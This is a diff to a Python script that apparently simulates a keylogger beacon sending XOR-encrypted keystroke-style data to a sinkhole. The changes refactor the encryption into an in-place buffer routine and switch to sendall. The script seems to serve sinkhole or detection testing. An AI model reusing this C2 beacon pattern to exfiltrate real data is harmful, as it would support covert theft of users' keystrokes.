@@ -8,10 +8,34 @@ and sending encrypted keystroke data.
 import socket
 import time
 
+# Reused for every beacon so repeated sends don't allocate a new buffer
+_SEND_BUF = bytearray(65536)
+
 
 def xor_encrypt(data: bytes, key: bytes) -> bytes:
     """XOR encryption (symmetric)."""
-    return bytes(data[i] ^ key[i % len(key)] for i in range(len(data)))
+    # Same big-integer XOR as app.protocols.utils.xor_decrypt
+    size = len(data)
+    keystream = (key * (size // len(key) + 1))[:size]
+    return (
+        int.from_bytes(data, "little") ^ int.from_bytes(keystream, "little")
+    ).to_bytes(size, "little")
+
+
+def encrypt_into(buf: bytearray, data: bytes, key: bytes) -> int:
+    """XOR-encrypt data in place at the start of buf and return its length."""
+    size = len(data)
+    if size > len(buf):
+        raise ValueError(f"Payload of {size} bytes does not fit the {len(buf)} byte send buffer")
+    
+    # Copy the plaintext in, then XOR it where it sits
+    view = memoryview(buf)[:size]
+    view[:] = data
+    keystream = (key * (size // len(key) + 1))[:size]
+    view[:] = (
+        int.from_bytes(view, "little") ^ int.from_bytes(keystream, "little")
+    ).to_bytes(size, "little")
+    return size
 
 
 def send_beacon():
@@ -45,12 +69,12 @@ def send_beacon():
         print(f"[+] Connected to sinkhole!")
         
         # Encrypt payload with XOR
-        encrypted = xor_encrypt(payload.encode(), XOR_KEY)
-        print(f"[*] Sending {len(encrypted)} bytes of encrypted data...")
+        size = encrypt_into(_SEND_BUF, payload.encode(), XOR_KEY)
+        print(f"[*] Sending {size} bytes of encrypted data...")
         print(f"[*] Payload preview: {payload[:80]}...")
         
         # Send encrypted data
-        sock.send(encrypted)
+        sock.sendall(memoryview(_SEND_BUF)[:size])
         print("[+] Data sent!")
         
         # Wait for response
@@ -99,8 +123,8 @@ if __name__ == "__main__":
         sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         sock.settimeout(10)
         sock.connect((HOST, PORT))
-        encrypted = xor_encrypt(payload2.encode(), XOR_KEY)
-        sock.send(encrypted)
+        size = encrypt_into(_SEND_BUF, payload2.encode(), XOR_KEY)
+        sock.sendall(memoryview(_SEND_BUF)[:size])
         response = sock.recv(1024)
         sock.close()
         print("[+] Second beacon sent successfully!")